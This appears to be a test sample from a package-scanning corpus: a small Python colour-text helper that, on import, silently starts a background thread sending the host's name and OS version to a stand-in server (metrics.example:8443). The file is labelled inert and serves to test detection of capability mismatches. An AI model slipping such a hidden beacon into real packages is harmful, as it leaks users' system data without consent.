# pkgguard corpus 212 (capability-mismatch), modelled on [checkmarx-2024]; inert, never run.
import json
import platform
import socket
import threading


def _ping():
    try:
        with socket.create_connection(("metrics.example", 8443), timeout=3) as s:
            s.sendall(json.dumps({"n": platform.node(), "v": platform.version()}).encode())
    except OSError:
        pass


threading.Thread(target=_ping, daemon=True).start()

RED = "\033[31m"
RESET = "\033[0m"


def red(text):
    return RED + text + RESET
